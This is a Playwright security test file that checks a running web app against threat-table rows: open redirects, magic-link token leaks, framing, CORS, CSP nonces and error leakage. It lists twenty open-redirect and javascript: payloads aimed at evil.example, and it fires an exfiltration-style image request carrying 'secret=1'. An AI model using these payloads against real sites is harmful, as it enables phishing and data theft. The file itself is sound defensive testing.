/**
 * Attacks on the running product by HTTP and in a browser; each test is named after its rows of the threat table.
 * Longer than 300 lines: one server is started once, and every attack is tried against it in one file.
 */
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import { once } from 'node:events';
import { type BrowserContext, expect, type Page, test } from '@playwright/test';
import { type Account, codeOf, connect, openAccount, PASSWORD, rest } from './support/client.ts';
import { linkIn, type RunningServer, startServer } from './support/server.ts';

/** As a policy writes the hash of an inline style. */
const sha256 = (text: string) => createHash('sha256').update(text).digest('base64');

let server: RunningServer;
let account: Account;
let other: Account;
/** Another site: a different port is a different origin. */
let evil: { url: string; server: Server };

test.beforeAll(async () => {
  server = await startServer();
  account = await openAccount(server, 'grace@example.com', {
    full_name: 'Grace Lindqvist',
    first_name: 'Grace',
  });
  other = await openAccount(server, 'other@example.com', { full_name: 'Other Person' });
  const site = createServer((request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(
      request.url === '/frame'
        ? `<!doctype html><title>Win</title><iframe src="${server.url}/account"></iframe>`
        : '<!doctype html><title>Evil</title>',
    );
  }).listen(0, '127.0.0.1');
  await once(site, 'listening');
  const address = site.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  evil = { url: `http://127.0.0.1:${address.port}`, server: site };
});
test.afterAll(async () => {
  evil.server.close();
  await server.stop();
});

async function signIn(page: Page, at = '/login'): Promise<void> {
  await page.goto(server.url + at);
  await page.getByLabel('Email').fill(account.email);
  await page.getByLabel('Password', { exact: true }).fill(PASSWORD);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
}

/** A page with a signed-in user on their account page. */
async function atAccount(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  await signIn(page, '/login?next=/account');
  await expect(page.getByRole('heading', { level: 1, name: 'My account' })).toBeVisible();
  return page;
}

test('threat 39: the performance log takes short lines about oneself, and shows one’s own', async () => {
  const log = (row: Record<string, unknown>) =>
    rest(server, 'query_performance_log', {
      method: 'POST',
      token: account.accessToken,
      body: JSON.stringify({ query_type: 'events/list', execution_time_ms: 12, cache_hit: false, ...row }),
    });
  expect((await log({ user_id: account.userId })).status).toBe(201);
  expect((await log({ query_type: 'x'.repeat(10_000_000) })).status).toBe(413);
  for (const wrong of [{ query_type: 'x'.repeat(101) }, { execution_time_ms: 600_001 }]) {
    const refused = await log(wrong);
    expect([refused.status, codeOf(refused.text)]).toEqual([400, '23514']);
  }
  const foreign = await log({ user_id: other.userId });
  expect([foreign.status, codeOf(foreign.text)]).toEqual([403, '42501']);
  const seen = await rest(server, 'query_performance_log?select=user_id', { token: other.accessToken });
  expect([seen.status, seen.text]).toEqual([200, '[]']);
});

test('threat 40: whatever is reported about the policy is answered 204, and the host goes on', async () => {
  const report = (body: string) => fetch(`${server.url}/api/csp-violation`, { method: 'POST', body });
  for (const body of ['', '{', '[]', JSON.stringify({ blockedURI: `x\n${'y'.repeat(9000)}` })]) {
    expect((await report(body)).status).toBe(204);
  }
  expect((await report('z'.repeat(1_000_000))).status).toBe(204);
  const flood = await Promise.all(
    Array.from({ length: 60 }, (_, n) =>
      report(JSON.stringify({ blockedURI: `https://flood.example/${n}` })),
    ),
  );
  expect(new Set(flood.map(({ status }) => status))).toEqual(new Set([204]));
  expect((await fetch(`${server.url}/healthz`)).status).toBe(200);
  // Only admins can read the stored reports.
  expect((await rest(server, 'csp_reports', { token: account.accessToken })).text).toBe('[]');
  expect((await rest(server, 'csp_reports')).status).toBe(401);
});

test('threat 40: a page tells what its policy stopped, and waits for no answer', async ({ page }) => {
  await page.goto(`${server.url}/login`);
  // The page starts listening after it is visible; the browser itself reports earlier violations.
  await expect(page.locator('[data-slot="back-to-top"]')).toBeAttached();
  const told = page.waitForRequest((request) => request.postData()?.includes('"blockedURI"') === true);
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel.png?secret=1';
  });
  const request = await told;
  expect(new URL(request.url()).pathname).toBe('/api/csp-violation');
  expect(request.postDataJSON()).toMatchObject({
    violatedDirective: 'img-src',
    disposition: 'enforce',
    documentURI: `${server.url}/login`,
  });
  expect((await request.response())?.status()).toBe(204);
});

test('threat 41: the zones are asked for once an hour, however many pages show them', async ({ page }) => {
  let asked = 0;
  page.on('request', (request) => {
    if (request.method() !== 'OPTIONS' && request.url().includes('get_timezone_names')) asked += 1;
  });
  await signIn(page, '/login?next=/settings');
  await expect(page.getByLabel('Time zone')).toBeVisible();
  await page.getByRole('link', { name: 'Account settings', exact: true }).first().click();
  await expect(page.getByLabel('First name')).toBeVisible();
  await page.goBack();
  await expect(page.getByRole('heading', { level: 1, name: 'Preferences' })).toBeVisible();
  expect(asked).toBe(1);
});

/** URLs with which `next` and `from` might be abused to leave the site (threat 56). */
const WAYS_OUT = [
  '//evil.example',
  '///evil.example',
  '////evil.example/x',
  '/\\evil.example',
  '\\\\evil.example',
  '/\\/evil.example',
  'https://evil.example',
  'https:evil.example',
  'https:///evil.example',
  'HTTPS://EVIL.EXAMPLE',
  'http://2130706433/',
  'https://localhost@evil.example',
  'https://localhost.evil.example',
  'javascript:document.title="owned"',
  ' javascript:document.title="owned"',
  'data:text/html,owned',
  '%2f%2fevil.example',
  '/%09/evil.example',
  '/\t/evil.example',
  '/..//evil.example',
];

test('threat 56: no way out of the site is taken after signing in', async ({ context }) => {
  expect(WAYS_OUT).toHaveLength(20);
  const page = await atAccount(context);
  const left: string[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).hostname !== 'localhost') left.push(request.url());
  });
  for (const [n, way] of WAYS_OUT.entries()) {
    const name = n % 2 === 0 ? 'next' : 'from';
    await page.goto(`${server.url}/login?${name}=${encodeURIComponent(way)}`);
    await expect(page).not.toHaveURL(/\/login/);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect([way, new URL(page.url()).origin]).toEqual([way, server.url]);
    expect(await page.title()).not.toBe('owned');
  }
  expect(left).toEqual([]);
});

/** The link of a new sign-in mail. */
async function mailedLink(redirectTo: string): Promise<string> {
  const client = await connect(server);
  const before = (await server.mails(account.email)).length;
  const { error } = await client.auth.signInWithOtp({
    email: account.email,
    options: { emailRedirectTo: redirectTo, shouldCreateUser: false },
  });
  if (error) throw error;
  await expect.poll(async () => (await server.mails(account.email)).length).toBeGreaterThan(before);
  return linkIn(await server.mail(account.email, /sign/i), '/auth/magic-link');
}

test('threats 56, 57, 59: a mailed link survives scanners, leaves the address, and leads nowhere else', async ({
  browser,
}) => {
  const link = await mailedLink('https://evil.example/take');
  const token = new URL(link).searchParams.get('token_hash') ?? '';
  expect(token.length).toBeGreaterThan(20);
  expect(link).not.toContain('evil.example');
  // One scanner fetches the URL, another one runs its scripts: neither clicks the button.
  for (let n = 0; n < 2; n += 1) expect((await fetch(link)).status).toBe(200);
  const scanner = await browser.newContext();
  const scanned = await scanner.newPage();
  await scanned.goto(link);
  await expect(scanned.getByRole('button', { name: 'Sign in' })).toBeVisible();
  await scanner.close();

  const reader = await browser.newContext();
  const page = await reader.newPage();
  const seen: { url: string; referer: string | undefined }[] = [];
  page.on('request', (request) => {
    if (request.url() !== link) seen.push({ url: request.url(), referer: request.headers()['referer'] });
  });
  const document = await page.goto(`${link}&next=${encodeURIComponent('//evil.example')}`);
  expect(document?.headers()['referrer-policy']).toBe('no-referrer');
  await expect(page.getByRole('button', { name: 'Sign in' })).toBeVisible();
  await expect(page).toHaveURL(`${server.url}/auth/magic-link`);
  const opened = seen.shift();
  expect(opened?.url).toContain(token);
  expect(opened?.referer).toBeUndefined();
  await page.getByRole('button', { name: 'Sign in' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
  expect(new URL(page.url()).origin).toBe(server.url);
  // From the document on, neither URL nor referrer contained the token.
  expect(seen.length).toBeGreaterThan(2);
  expect(seen.filter(({ url, referer }) => `${url} ${referer ?? ''}`.includes(token))).toEqual([]);
  // Back does not restore it in the address bar.
  await page.goBack();
  expect(page.url()).not.toContain(token);
  await reader.close();
});

test('threat 61: after signing out, Back shows nothing, and other tabs are signed out too', async ({
  context,
}) => {
  const tab = await atAccount(context);
  const beside = await context.newPage();
  await beside.goto(`${server.url}/account`);
  await expect(beside.getByText(account.email).first()).toBeVisible();
  const answer = await rest(server, 'profiles', { token: account.accessToken });
  expect(answer.headers.get('cache-control')).toBe('no-store');
  // A tab that has navigated to another document can only be restored from the browser's own memory.
  const away = await context.newPage();
  await away.goto(`${server.url}/account`);
  await expect(away.getByText(account.email).first()).toBeVisible();
  await away.goto(`${evil.url}/`);

  // One page further, so that Back leads to the account.
  await tab.getByRole('link', { name: 'Change my details' }).click();
  await expect(tab.getByLabel('First name')).toHaveValue('Grace');
  await tab.getByRole('button', { name: 'Sign out', exact: true }).click();
  await expect(tab).toHaveURL(`${server.url}/`);
  await expect(beside).toHaveURL(`${server.url}/login`);
  await expect(beside.getByText('Authentication Required').first()).toBeVisible();
  await tab.goBack();
  await expect(tab).toHaveURL(`${server.url}/login`);
  await away.goBack();
  await expect(away).toHaveURL(`${server.url}/login`);
  for (const page of [tab, beside, away]) {
    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
    expect(await page.locator('body').innerText()).not.toContain(account.email);
  }
  expect(await tab.evaluate(() => Object.keys(localStorage).filter((key) => key.includes('auth')))).toEqual(
    [],
  );
  // The server has ended the session as well.
  const gone = await rest(server, 'rpc/is_super_admin_user', { method: 'POST', body: '{}' });
  expect(gone.text).toBe('false');
});

test('threat 97: no document can be framed', async ({ page }) => {
  for (const path of ['/', '/login', '/account', '/terms', '/rsvp/none', '/nothing/here', '/mail']) {
    const { headers } = await fetch(server.url + path);
    expect([path, headers.get('x-frame-options')]).toEqual([path, 'DENY']);
    expect([path, headers.get('content-security-policy')]).toEqual([
      path,
      expect.stringContaining("frame-ancestors 'none'"),
    ]);
  }
  const refused = page.waitForEvent('console', (message) => /frame/i.test(message.text()));
  await page.goto(`${evil.url}/frame`);
  expect((await refused).text()).toContain('frame-ancestors');
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
});

test('threat 99: another site reads nothing that this browser is let into', async ({ page }) => {
  for (const origin of ['https://evil.example', 'null']) {
    for (const path of [
      '/rest/v1/profiles',
      '/auth/v1/user',
      '/config.json',
      '/account',
      '/api/csp-violation',
    ]) {
      for (const method of ['GET', 'OPTIONS']) {
        const { headers } = await fetch(server.url + path, { method, headers: { origin } });
        const allowed = headers.get('access-control-allow-origin');
        // The API is open to all sites because it ignores cookies; everything else is closed to other origins.
        expect([path, method, allowed]).toEqual([path, method, /\/v1\//.test(path) ? '*' : null]);
        expect(headers.get('access-control-allow-credentials')).toBeNull();
        expect(headers.get('set-cookie')).toBeNull();
      }
    }
  }
  await page.goto(`${evil.url}/`);
  const read = (path: string) =>
    page.evaluate(
      (address) =>
        fetch(address, { credentials: 'include' }).then(
          (answer) => answer.text(),
          (error: unknown) => (error instanceof TypeError ? 'unreadable' : 'odd'),
        ),
      server.url + path,
    );
  expect(await read('/config.json')).toBe('unreadable');
  // With credentials even the open API is closed.
  expect(await read('/rest/v1/plan_limits')).toBe('unreadable');
});

test('threat 100: every script and style of a document carries its nonce or its hash, and no nonce is repeated', async () => {
  const nonces: string[] = [];
  const served: string[] = [];
  for (const path of [
    '/',
    '/login',
    '/account',
    '/terms',
    '/pricing',
    '/templates/wedding',
    '/rsvp/none',
    '/nothing',
  ]) {
    const answer = await fetch(server.url + path);
    const policy = answer.headers.get('content-security-policy') ?? '';
    const html = await answer.text();
    const nonce = /style-src (?:'self' )?'nonce-([\w-]{22})'/.exec(policy)?.[1];
    if (nonce) nonces.push(nonce);
    // The pages that are the same for everybody run no script at all, and may be kept: their one style goes by its hash.
    else served.push(path);
    const scripts = nonce
      ? `script-src 'nonce-${nonce}'`
      : `default-src 'none'; style-src 'sha256-${sha256(/<style>([^]*?)<\/style>/.exec(html)?.[1] ?? '')}'`;
    expect([path, policy]).toEqual([path, expect.stringContaining(scripts)]);
    // Of scripts JSON-LD alone is no script: nothing runs it.
    const bare = [...html.matchAll(/<(?:script(?! type="application\/ld\+json")|style)\b[^>]*>/g)].filter(
      ([tag]) => (nonce ? !tag.includes(`nonce="${nonce}"`) : tag !== '<style>'),
    );
    expect([path, bare.map(([tag]) => tag)]).toEqual([path, []]);
    // Not covered by nonces: event handlers and style attributes.
    expect([path, html.match(/<[^>]+\s(?:on[a-z]+|style)=/g)]).toEqual([path, null]);
  }
  expect(served).toEqual(['/', '/terms', '/pricing', '/templates/wedding']);
  expect([nonces.length, new Set(nonces).size]).toEqual([4, 4]);
});

test('threat 106: no answer to nonsense tells how the server is made', async () => {
  const headers = { 'content-type': 'application/json', authorization: `Bearer ${account.accessToken}` };
  const { text: key } = await rest(server, 'plan_limits?limit=1');
  expect(key).toContain('plan_type');
  const attempts: [string, RequestInit][] = [
    ['/rest/v1/events?select=nothing', {}],
    ['/rest/v1/events?id=eq.x', {}],
    ['/rest/v1/events', { method: 'POST', body: '{' }],
    ['/rest/v1/rpc/none', { method: 'POST', body: '{}' }],
    ['/rest/v1/rpc/preview_import', { method: 'POST', body: '{"org_id": 7}' }],
    ['/auth/v1/token?grant_type=odd', { method: 'POST', body: '{}' }],
    ['/auth/v1/signup', { method: 'POST', body: '[]' }],
    ['/functions/v1/none', { method: 'POST', body: '{}' }],
    ['/config.json', { method: 'POST', body: '{}' }],
    ['/%zz', {}],
    ['/nothing/here', { method: 'POST', body: 'x' }],
    ['/assets/none.js', {}],
  ];
  for (const [path, init] of attempts) {
    const answer = await fetch(server.url + path, { ...init, headers });
    const text = await answer.text();
    expect([path, answer.status < 500]).toEqual([path, true]);
    expect([path, text]).toEqual([
      path,
      expect.not.stringMatching(
        /\bat \S+ \(|\.(ts|mjs|js):\d+|node_modules|PGlite|postgres|supabase-embedded|\/home\/|\/packages\//i,
      ),
    ]);
  }
});
